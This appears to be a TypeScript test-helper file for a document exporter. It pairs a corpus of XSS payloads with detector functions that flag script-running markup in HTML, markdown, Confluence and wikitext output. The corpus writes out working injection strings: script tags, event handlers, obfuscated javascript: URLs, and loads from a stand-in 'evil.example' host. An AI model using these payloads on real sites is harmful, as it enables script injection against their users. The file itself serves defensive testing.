// The XSS corpus and the checks that say whether an output would run any of it. Used by the
// exporter's property tests and by the reliability suite's xss and renderers-property areas.
import { parseMarkdown } from '@rca/markdown';
import { XMLValidator } from 'fast-xml-parser';
import { Parser } from 'htmlparser2';

/**
 * Vectors typed into markdown (sections, titles, timeline text): raw HTML, event handlers, script
 * URLs in every spelling markdown and HTML accept, and markup of the other outputs (wikitext,
 * Confluence storage format) that would run or transclude something there.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><script>alert(1)</script>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](javascript:alert(1) "title")',
  '[ref][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](//evil.example/pixel.png)',
  '[x](https://ok.example/" onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '> <script>alert(1)</script>',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>alert(1)</script> | b |',
  '- [ ] <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>',
  '{{#tag:script|alert(1)}}',
  '{{Delete|reason=pwned}} [[Category:Hacked]] ~~~~ __NOTOC__',
  '<nowiki></nowiki><script>alert(1)</script>',
  '[javascript:alert(1) click]',
  '<syntaxhighlight></syntaxhighlight><script>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

const EXECUTABLE_ELEMENTS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'svg',
  'math',
  'base',
  'form',
  'meta',
  'link',
  'template',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'xlink:href',
  'poster',
  'background',
  'srcset',
]);

function scriptUrl(value: string): boolean {
  // Browsers drop ASCII whitespace and controls inside the scheme.
  // eslint-disable-next-line no-control-regex
  const compact = value.replace(/[\u0000-\u0020]+/g, '').toLowerCase();
  return /^(javascript|vbscript|data):/.test(compact);
}

/**
 * What in an HTML (or XHTML) document would run script: executable elements, event-handler
 * attributes, script URLs, srcdoc, style attributes with url()/expression(). `allowStyle` lets the
 * document's own <style> elements through (the HTML export carries its stylesheet); `allowMeta`
 * its own CSP <meta>.
 */
export function executableHtml(
  html: string,
  options: {
    allowStyleElement?: boolean;
    allowMeta?: (attributes: Record<string, string>) => boolean;
  } = {},
): string[] {
  const findings: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        const tag = name.toLowerCase();
        if (tag === 'style' && !options.allowStyleElement) findings.push('<style> element');
        if (EXECUTABLE_ELEMENTS.has(tag) && !(tag === 'meta' && options.allowMeta?.(attributes)))
          findings.push(`<${tag}> element`);
        for (const [key, value] of Object.entries(attributes)) {
          const attribute = key.toLowerCase();
          if (/^on/.test(attribute)) findings.push(`${attribute} on <${tag}>`);
          if (attribute === 'srcdoc') findings.push(`srcdoc on <${tag}>`);
          if (URL_ATTRIBUTES.has(attribute) && scriptUrl(value))
            findings.push(`${attribute}="${value.slice(0, 40)}" on <${tag}>`);
          if (attribute === 'style' && /url\s*\(|expression\s*\(|javascript:/i.test(value))
            findings.push(`style="${value.slice(0, 40)}" on <${tag}>`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return findings;
}

/** The HTML export: its own <style> and CSP <meta> are expected; a script-src must be 'none'. */
export function executableHtmlExport(html: string): string[] {
  const findings = executableHtml(html, {
    allowStyleElement: true,
    allowMeta: (attributes) =>
      (attributes['http-equiv'] ?? '').toLowerCase() === 'content-security-policy' ||
      'charset' in attributes ||
      attributes.name === 'viewport' ||
      attributes.name === 'generator',
  });
  const csp = /http-equiv="Content-Security-Policy" content="([^"]*)"/i.exec(html)?.[1] ?? '';
  if (!/default-src 'none'|script-src 'none'/.test(csp))
    findings.push(`CSP does not forbid scripts: ${csp || '(none)'}`);
  return findings;
}

const CONFLUENCE_MACROS = ['status', 'code', 'info', 'warning'];

/** Confluence storage format: well-formed XML, only our macros, nothing executable. */
export function confluenceFindings(xhtml: string): string[] {
  const findings: string[] = [];
  const valid = XMLValidator.validate(`<r xmlns:ac="a" xmlns:ri="r">${xhtml}</r>`);
  if (valid !== true) findings.push(`not well-formed XML: ${JSON.stringify(valid).slice(0, 200)}`);
  const outsideCdata = xhtml.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
  for (const [, name] of outsideCdata.matchAll(/<ac:structured-macro ac:name="([^"]+)"/g))
    if (!CONFLUENCE_MACROS.includes(name)) findings.push(`macro ${name}`);
  findings.push(...executableHtml(outsideCdata));
  return findings;
}

const WIKI_TAGS = ['b', 'i', 's', 'code', 'pre', 'br', 'blockquote', 'div', 'syntaxhighlight'];

/** Wikitext: no templates, links, signatures or magic words from user text; only our tags. */
export function wikitextFindings(wiki: string): string[] {
  const findings: string[] = [];
  const outsideCode = wiki.replace(/<syntaxhighlight[^>]*>[\s\S]*?<\/syntaxhighlight>/g, '');
  const markup = /\{\{|\[\[|~~~|__[A-Z]+__/.exec(outsideCode);
  if (markup) findings.push(`wikitext markup ${markup[0]} outside code`);
  for (const [, tag] of outsideCode.matchAll(/<\/?([a-z][a-z0-9]*)/gi))
    if (!WIKI_TAGS.includes(tag.toLowerCase())) findings.push(`<${tag}> tag`);
  findings.push(...executableHtml(outsideCode));
  return findings;
}

/** Markdown output: rendered anywhere, it carries no raw HTML and only http(s)/mailto links. */
export function markdownFindings(markdown: string): string[] {
  const findings: string[] = [];
  for (const token of parseMarkdown(markdown).flatMap((t) => [t, ...(t.children ?? [])])) {
    if (token.type === 'html_block') findings.push('raw HTML block');
    if (token.type === 'html_inline' && !/^<input type="checkbox"/.test(token.content))
      findings.push(`raw HTML ${token.content.slice(0, 40)}`);
    const href = String(token.attrGet('href') ?? token.attrGet('src') ?? '');
    // eslint-disable-next-line no-control-regex
    const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(href.replace(/[\u0000-\u0020]+/g, ''))?.[1];
    if (scheme && !/^(https?|mailto)$/i.test(scheme)) findings.push(`link to ${href.slice(0, 40)}`);
  }
  return findings;
}
